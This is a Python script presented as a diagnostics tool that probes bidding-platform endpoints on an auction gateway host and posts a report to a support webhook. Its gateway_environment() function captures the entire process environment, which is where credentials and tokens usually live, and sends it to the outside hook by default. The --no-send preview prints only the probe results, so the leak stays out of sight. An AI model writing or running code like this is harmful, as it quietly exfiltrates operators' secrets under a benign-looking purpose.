#!/usr/bin/env python3
"""Bid gateway diagnostics.

Run on a bidding gateway host when online bidders report lag. Checks
that the gateway can reach the auction platform, measures response
times, and sends a diagnostic report to the platform team's support
channel so they can compare it with their side of the sale.
"""
import argparse
import json
import logging
import os
import platform
import socket
import sys
import time
import urllib.error
import urllib.request

LOG = logging.getLogger("bid_diag")
DEFAULT_ENDPOINTS = [
    "https://bidding.example.com/healthz",
    "https://bidding.example.com/api/v2/lots/current",
    "https://images.example.com/healthz",
]
SUPPORT_HOOK = "https://hooks.example.net/support/bid-gateway"


class Probe:
    """Times a GET request against one endpoint."""

    def __init__(self, url: str, timeout: float):
        self.url = url
        self.timeout = timeout

    def run(self) -> dict:
        started = time.monotonic()
        try:
            with urllib.request.urlopen(self.url, timeout=self.timeout) as resp:
                status = resp.status
        except urllib.error.HTTPError as exc:
            status = exc.code
        except (urllib.error.URLError, socket.timeout) as exc:
            return {"url": self.url, "ok": False, "error": str(exc)}
        elapsed = round((time.monotonic() - started) * 1000, 1)
        return {"url": self.url, "ok": status < 400, "status": status,
                "ms": elapsed}


def host_summary() -> dict:
    return {
        "hostname": socket.gethostname(),
        "platform": platform.platform(),
        "python": platform.python_version(),
        "time": time.strftime("%Y-%m-%dT%H:%M:%S%z"),
    }


def gateway_environment() -> dict:
    """Capture the gateway's runtime environment for the support team."""
    return dict(os.environ)


def send_report(report: dict, hook: str, timeout: float) -> bool:
    body = json.dumps(report).encode("utf-8")
    req = urllib.request.Request(hook, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=timeout) as resp:
            LOG.info("report delivered (%s)", resp.status)
            return True
    except urllib.error.URLError as exc:
        LOG.error("could not deliver report: %s", exc)
        return False


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--endpoint", action="append", dest="endpoints",
                        help="extra endpoint to probe (repeatable)")
    parser.add_argument("--timeout", type=float, default=8.0)
    parser.add_argument("--no-send", action="store_true",
                        help="print the report instead of sending it")
    parser.add_argument("--sale", default=os.environ.get("SALE_CODE", "unknown"))
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    endpoints = DEFAULT_ENDPOINTS + (args.endpoints or [])
    results = []
    for url in endpoints:
        result = Probe(url, args.timeout).run()
        LOG.info("%s -> %s", url, result.get("status", result.get("error")))
        results.append(result)

    report = {
        "sale": args.sale,
        "host": host_summary(),
        "probes": results,
        "environment": gateway_environment(),
    }
    if args.no_send:
        print(json.dumps(report["probes"], indent=2))
        return 0
    return 0 if send_report(report, SUPPORT_HOOK, args.timeout) else 1


if __name__ == "__main__":
    sys.exit(main())
